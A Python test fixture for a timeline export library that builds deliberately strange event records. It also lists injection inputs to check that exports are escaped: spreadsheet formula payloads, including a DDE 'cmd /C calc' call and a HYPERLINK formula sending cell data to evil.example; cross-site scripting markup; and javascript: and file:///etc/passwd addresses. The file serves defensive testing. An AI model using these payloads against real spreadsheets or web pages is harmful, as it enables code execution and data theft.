"""A store of events as different as events can be, made by hand; and texts that would do harm elsewhere."""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date
from pathlib import Path

from timeline.exports.formats import find
from timeline.exports.options import DEFAULT, Options
from timeline.model import (
    Actor,
    ActorKind,
    DataSet,
    Modality,
    Participation,
    Place,
    PlaceExactness,
    Report,
    Role,
    Row,
    Span,
    When,
)
from timeline.model.merging import countries_of
from timeline.store import open_store

PUTIN = Actor("Vladimir Putin", ActorKind.PERSON, "RUS", "Q7747")
MYANMAR = Actor("Myanmar", ActorKind.COUNTRY, "MMR", "MMR")
ARMY = Actor("Côte d'Azur; Army", ActorKind.GROUP, "MMR")
UN = Actor("United Nations", ActorKind.ORGANISATION, "", "Q1065")
MOSCOW = Place("Moscow", "RUS", 55.752, 37.616, PlaceExactness.CITY, "geonames:524901")
SOUTH = Place("Santiago", "CHL", -33.456, -70.648, PlaceExactness.CITY, "geonames:3871336")
COUNTRY = Place("Myanmar", "MMR", exactness=PlaceExactness.COUNTRY, id="MMR")
_NOWHERE = Span(0, 0)
_REPORTED = date(2025, 3, 4)

FORMULAS = [
    *(f"{before}{sign}1+1" for before in ("", " ", "\t", "\r", "\n", " \t ", "\u00a0", "\ufeff") for sign in "=+-@"),
    *(f"{sign}SUM(A1)" for sign in "\uff1d\uff0b\uff0d\uff20"),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</script><svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "<javascript:alert(1)>",
    "&lt;b&gt; &#60;",
    "`code` *bold* _it_ ~~no~~ # head\n\n## second\n- item | cell",
    "' onmouseover='alert(1)",
    '"><iframe src="javascript:alert(1)">',
]
ADDRESSES = ["javascript:alert(1)", "data:text/html,<b>", "file:///etc/passwd", 'https://a.example/"onclick="x', "x"]
CONTROLS = "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)])) + "\u202e\u2066\u200f\u2028"


def told(
    title: str, edtf: str, *actors: Participation, place: Place | None = None, modality: Modality = Modality.ACTUAL
) -> Report:
    return Report(
        happening=0,
        span=_NOWHERE,
        trigger=_NOWHERE,
        sentence=f"They say: {title}",
        words="",
        title=title,
        when=When.of(edtf, words="then" if edtf else ""),
        type="CONSULT",
        kind="meeting",
        modality=modality,
        salience=0.625,
        actors=actors,
        place=place,
        countries=countries_of(actors, place),
    )


def by(actor: Actor, role: Role) -> Participation:
    return Participation(actor, role)


REPORTS = [
    told("An old war begins", "1812-06-24", by(MYANMAR, Role.SOURCE), place=SOUTH),
    told("A month of talks", "2021-02", by(PUTIN, Role.PARTICIPANT), by(MYANMAR, Role.PARTICIPANT), place=MOSCOW),
    told("A visit", "2021-02-01", by(PUTIN, Role.SOURCE), by(MYANMAR, Role.TARGET), by(UN, Role.TARGET), place=COUNTRY),
    told("A year", "2022", by(ARMY, Role.SOURCE), modality=Modality.DENIED),
    told("A span", "2022-03-01/2022-05-02", by(ARMY, Role.SOURCE), by(PUTIN, Role.PARTICIPANT)),
    told("Since then", "2025-03-03/..", by(UN, Role.PARTICIPANT)),
    told("Until then", "../2025-03-03"),
    told("About then", "2021-02-03~"),
    told("A season", "2022-21", modality=Modality.PLANNED, place=MOSCOW),
    told("No day is known", ""),
    told("The last of days", "9999-12-31"),
    told(f"Controls {CONTROLS} in between", "2023-01-01"),
    *(told(text, f"2024-01-{n + 1:02}") for n, text in enumerate(MARKUP)),
]


def store_at(path: Path, reports: Iterable[Report] = REPORTS) -> None:
    """Make a store of an event a report, one confirmed, one hidden and one edited."""
    rows = []
    for n, report in enumerate(reports):
        url = ADDRESSES[n % 5] if n % 3 else f"https://example.org/{n}?a=1&b=2"
        rows.append(Row(str(n), report, url=url, reported=_REPORTED))
    with open_store(str(path)) as store:
        store.save_rows(DataSet("by hand"), rows, extractor="hand 1")
        events = list(store.events())
        assert len(events) == len(rows)
        store.hide_event(events[1].id)
        store.confirm_event(events[0].id)
        store.edit_event(events[-1].id, [("kind", "visit")])


def written(name: str, events: Iterable[object], options: Options = DEFAULT) -> bytes:
    """What a format makes of events or reports."""
    return b"".join(find(name).exporter().write(events, options))
